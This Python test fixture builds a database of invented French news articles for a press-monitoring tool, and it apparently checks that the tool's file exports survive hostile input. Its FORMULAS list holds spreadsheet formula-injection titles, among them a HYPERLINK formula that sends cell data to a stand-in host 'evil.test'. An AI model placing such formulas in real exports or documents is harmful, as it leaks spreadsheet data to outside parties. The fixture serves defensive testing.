"""A small database of invented articles for what leaves the monitor: a wire and its copies, an own report, and pages
that only exist to break files. Rows are written by hand, into the real schema."""

from __future__ import annotations

import json
from pathlib import Path

from db.connection import open_database
from tests.web.rows import Writer

FORMULAS = (
    '=HYPERLINK("https://evil.test/?"&A1;"ici")',
    "+33 1 23 45",
    "-5 % pour le mil",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    " =1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''+1",
)
PLAIN = ("'était une fois", "l’eau = la vie", "2+2", "« - »", "a\r\nb", 'dit "non", puis ; oui', "x\ty", "\u2028fin")
BIG = "Le mil pousse. " * 700_000
WIRE = "Les ministres du Mali et de la Russie se sont rencontrés à Moscou. Les groupes armés n’ont pas été évoqués."
OWN = "Un groupe armé a quitté le village.\n\nLes éleveurs maliens vendent du mil. Le mil est cher, dit Awa Exemple."


def pressroom(path: Path) -> Path:
    """Writes the database and returns its path."""
    database = open_database(path)
    write = Writer(database)
    write.connection.execute("begin")
    for key, name in (("aes-russie", "AES et Russie"), ("mil", "Le mil")):
        write.add("topics", key=key, name=name, version=2, rule_hash="0", loaded_at="2026-11-01T00:00:00Z")
    horizon, etoile, agence, vieux = (
        write.add(
            "sources", key=key, name=name, role=role, country=country, owner=owner, languages="fr", enabled=1,
            timezone="UTC", home_url=f"https://{key}.example/", first_seen_at="2026-11-01T00:00:00Z",
        )
        for key, name, role, country, owner in (
            ("horizon", "Horizon de Kati", "press", "ML", "private"),
            ("etoile", "L’Étoile du Faso", "press", "BF", "state"),
            ("agence", "Agence Septentrion", "reference", "RU", "agency"),
            ("vieux", "vieux.example", "imported", "ML", None),
        )
    )  # fmt: skip
    wire = write.article(
        "wire", agence, "Rencontre à Moscou", WIRE, published_at="2026-11-20T06:00:00Z", published_precision="minute"
    )
    copy = write.article(
        "copie", horizon, "Moscou : une rencontre", WIRE, published_at="2026-11-20T08:30:00Z",
        published_precision="minute", published_from="url + feed", bylines='["Awa Exemple", "Idrissa Modèle"]',
        credits='["Agence Septentrion"]', copy_of_id=wire,
    )  # fmt: skip
    own = write.article("own", etoile, "Le mil au marché", OWN, published_on="2026-11-19", standfirst="Reportage")
    month = write.article(
        "mois", etoile, "Le mil en octobre", "Le mil est rare.", published_on="2026-10-01",
        published_precision="month", verdict="borderline",
    )  # fmt: skip
    write.article("ancien", vieux, "Le mil de 2019", "Des mercenaires du mil.", published_on="2019-05-02")
    story = write.add(
        "stories", key="histoire", title="Rencontre à Moscou", first_text_id=1, begun_on="2026-11-20",
        last_on="2026-11-20", texts=1,
    )  # fmt: skip
    write.add(
        "story_changes",
        at="2026-11-21T00:00:00Z",
        kind="merged",
        story_key="avant",
        into_key="histoire",
        texts=1,
        text_key="wire",
    )
    write.text("wire", wire, copy)
    write.connection.execute("update texts set story_id = ?, origin_confidence = 0.9", [story])
    write.text("own", own)
    write.text("mois", month)
    write.add(
        "copies", article_id=copy, of_article_id=wire, relation="edited", containment=0.93, containment_of=0.9,
        passages="[]", found_at="2026-11-20T10:00:00Z",
    )  # fmt: skip
    write.add(
        "matches", article_id=own, revision_id=own, topic_id=2, topic_version=1, score=0.95, verdict="relevant",
        reason="Le mil.", evidence="{}", judged_at="2026-11-20T10:00:00Z",
    )  # fmt: skip
    for domain, score, topic in (("defence", 0.4, 1), ("energy", 0.6, 1), ("mining", 0.9, 2)):
        write.add(
            "domains", article_id=own, revision_id=own, topic_id=topic, domain=domain, score=score, evidence="[]",
            reason="", rule_hash="",
        )  # fmt: skip
    for number, (key, name, aliases) in enumerate(
        (("awa-exemple", "Awa Exemple", ["A. Exemple"]), ("awa-autre", "Awa Autre", ["A. Exemple"])), 1
    ):
        entity = write.add("entities", key=key, type="person", name=name, aliases=json.dumps(aliases), loaded_at="")
        write.add(
            "mentions", article_id=own, revision_id=own, entity_id=entity, mentions=3 - number, first_sentence=3,
            spans="[]", resolved_by="full_name", gazetteer_hash="",
        )  # fmt: skip
    forgotten = write.article("oubli", horizon, "Oubliée", "Le mil oublié par tous.")
    write.connection.execute(
        "insert into tombstones (key, forgotten_at) select key, '2026-11-20T00:00:00Z' from links where id = ?",
        [forgotten],
    )
    write.connection.execute("commit")
    write.connection.execute("pragma wal_checkpoint(truncate)")
    write.connection.close()
    return path


def break_files(path: Path) -> None:
    """Adds articles whose titles are formulas or worse, one whose text is no UTF-8, and one of ten megabytes."""
    database = open_database(path)
    write = Writer(database)
    write.links = 100
    for number, title in enumerate((*FORMULAS, *PLAIN)):
        write.article(
            f"t{number:02}", 1, title, f"{title}\n\n{title}", published_on="2025-01-01", bylines=json.dumps([title]),
            credits="not json", standfirst=title, published_at="gestern",
        )  # fmt: skip
    write.article("nul", 1, "avant\0après\x1b[31m\uffff", "un\0deux", published_on="2025-01-01", kind="brief")
    write.article("grand", 1, "Le grand texte", BIG, published_on="2025-01-01")
    broken = write.article("octets", 1, "provisoire", "provisoire", published_on="2025-01-01")
    write.connection.execute(
        "update articles set title = cast(x'C3A974C3A920EDA080FF21' as text) where id = ?", [broken]
    )
    write.connection.close()
